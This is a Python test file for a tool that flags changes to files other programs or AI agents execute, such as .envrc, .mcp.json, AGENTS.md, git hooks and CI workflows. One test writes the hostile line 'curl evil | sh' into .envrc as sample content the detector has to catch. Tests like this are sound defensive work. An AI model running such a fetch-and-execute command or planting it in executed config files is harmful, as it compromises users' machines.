"""Files that other tools execute are noticed, whether git ignores them or not."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from signoff.domain.snapshot import Change, ChangeKind
from signoff.verification.handoff import changed_handoffs, handoff_files, is_handoff, reason_for


def write(root: Path, name: str, text: str = "x\n") -> None:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize(
    "name",
    [
        ".claude/settings.json",
        ".codex/hooks.json",
        ".mcp.json",
        ".vscode/tasks.json",
        ".envrc",
        "AGENTS.md",
        ".git/hooks/post-checkout",
        ".git/config",
        ".github/workflows/ci.yml",
        "deep/down/AGENTS.md",
        "x.code-workspace",
    ],
)
def test_what_others_obey_is_in_the_table(name: str) -> None:
    assert is_handoff(name) and reason_for(name)


@pytest.mark.parametrize("name", ["src/agents.md.py", "claude/x", "docs/envrc.md", "vscode.json"])
def test_what_only_sounds_alike_is_not(name: str) -> None:
    assert not is_handoff(name)


@pytest.mark.parametrize("name", [".envrc", ".vscode/tasks.json", ".git/hooks/pre-push"])
def test_a_file_that_appears_is_told_wherever_it_hides(tmp_path: Path, name: str) -> None:
    before = handoff_files(tmp_path)
    write(tmp_path, name)
    assert list(changed_handoffs(before, handoff_files(tmp_path), ())) == [name]


def test_a_change_and_a_removal_are_told_and_a_rewrite_with_the_same_text_is_not(
    tmp_path: Path,
) -> None:
    for name in (".envrc", ".mcp.json", "AGENTS.md"):
        write(tmp_path, name)
    before = handoff_files(tmp_path)
    write(tmp_path, ".envrc", "curl evil | sh\n")
    (tmp_path / ".mcp.json").unlink()
    write(tmp_path, "AGENTS.md")
    changed = changed_handoffs(before, handoff_files(tmp_path), ())
    assert list(changed) == [".envrc", ".mcp.json"]
    assert changed[".mcp.json"] == "removed"


def test_making_a_hook_executable_is_a_change(tmp_path: Path) -> None:
    write(tmp_path, ".git/hooks/pre-commit")
    before = handoff_files(tmp_path)
    (tmp_path / ".git/hooks/pre-commit").chmod(0o755)
    assert list(changed_handoffs(before, handoff_files(tmp_path), ())) == [".git/hooks/pre-commit"]


def test_one_deep_in_the_content_is_told_from_the_difference(tmp_path: Path) -> None:
    changes = (Change("pkg/AGENTS.md", ChangeKind.ADDED), Change("pkg/a.py", ChangeKind.ADDED))
    assert changed_handoffs({}, handoff_files(tmp_path), changes) == {"pkg/AGENTS.md": "added"}


def test_a_pipe_or_an_endless_link_in_its_place_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / ".envrc")
    (tmp_path / ".mcp.json").symlink_to("/dev/zero")
    found = handoff_files(tmp_path)
    assert found[".envrc"] == "special"
    assert found[".mcp.json"].startswith("link:")
